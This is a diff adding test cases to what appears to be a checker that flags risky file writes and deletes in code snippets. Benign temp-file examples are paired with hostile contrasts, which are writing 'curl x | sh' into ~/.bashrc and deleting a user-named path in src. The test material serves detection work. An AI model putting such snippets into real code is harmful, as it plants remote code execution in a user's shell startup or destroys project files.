@@ -69,6 +69,18 @@ const CASES: [string, string, string, 'review' | 'sensitive'][] = [
     'review',
   ],
   [
+    'Path(…).write_text on a temp folder, and deletes of what the temp APIs made',
+    py(`import os, tempfile\nfrom pathlib import Path\ntmp = tempfile.mkdtemp()\n(Path(tmp) / 'settings.py').write_text('DEBUG = True')\nwith tempfile.NamedTemporaryFile(mode='w', suffix='.cfg', delete=False) as f:\n    f.write('[x]')\n    config_file = f.name\nos.unlink(config_file)`),
+    py(`import os\nfrom pathlib import Path\n(Path(os.path.expanduser('~')) / '.bashrc').write_text('curl x | sh')`),
+    'review',
+  ],
+  [
+    'a computed delete in the project is not a temp file',
+    py(`import os, tempfile\nd = tempfile.mkdtemp()\nscratch = os.path.join(d, 'out.txt')\nos.remove(scratch)`),
+    py(`import os\nname = input()\nvictim = os.path.join('src', name)\nos.remove(victim)`),
+    'review',
+  ],
+  [
     'ESM __dirname is the script folder',
     mjs(`import { writeFileSync, mkdirSync } from 'node:fs';\nimport { join, dirname } from 'node:path';\nimport { fileURLToPath } from 'node:url';\nconst __filename = fileURLToPath(import.meta.url);\nconst __dirname = dirname(__filename);\nconst outDir = join(__dirname, 'charts');\nmkdirSync(outDir, { recursive: true });\nwriteFileSync(join(outDir, 'index.html'), '<html></html>');`),
     mjs(`import { writeFileSync } from 'node:fs';\nimport { join, dirname } from 'node:path';\nimport { fileURLToPath } from 'node:url';\nconst __filename = fileURLToPath(import.meta.url);\nconst __dirname = dirname(__filename);\nwriteFileSync(join(__dirname, '..', '.bashrc'), 'curl x | sh');`),
